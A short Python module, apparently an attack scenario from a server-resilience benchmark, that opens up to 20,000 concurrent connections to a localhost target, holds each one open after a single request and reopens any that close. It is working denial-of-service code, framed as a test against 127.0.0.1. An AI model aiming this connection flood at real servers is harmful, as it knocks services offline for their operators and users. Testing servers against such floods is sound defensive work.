"""20,000 connections without a token send one request and then nothing; those that end are reopened a second later."""

import asyncio
import contextlib
import resource

from bench.attacks.target import Target

CONNECTIONS = 20_000
OPENERS = 100
SOURCE = ("127.0.0.2", 0)  # another address than the operator's: the limit by address is the attacker's alone
REQUEST = b"GET /healthz HTTP/1.1\r\nhost: localhost\r\n\r\n"


async def attack(target: Target) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    places = asyncio.Semaphore(min(CONNECTIONS, hard - 100))
    held: set[asyncio.Task[None]] = set()

    async def hold() -> None:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", target.port, local_addr=SOURCE)
            try:
                writer.write(REQUEST)
                await reader.read()  # until the server closes the connection
            finally:
                writer.close()
        await asyncio.sleep(1)
        places.release()

    async def open_all() -> None:
        while True:
            await places.acquire()
            task = asyncio.create_task(hold())
            held.add(task)
            task.add_done_callback(held.discard)
            await asyncio.sleep(0)

    await asyncio.gather(*(open_all() for _ in range(OPENERS)))
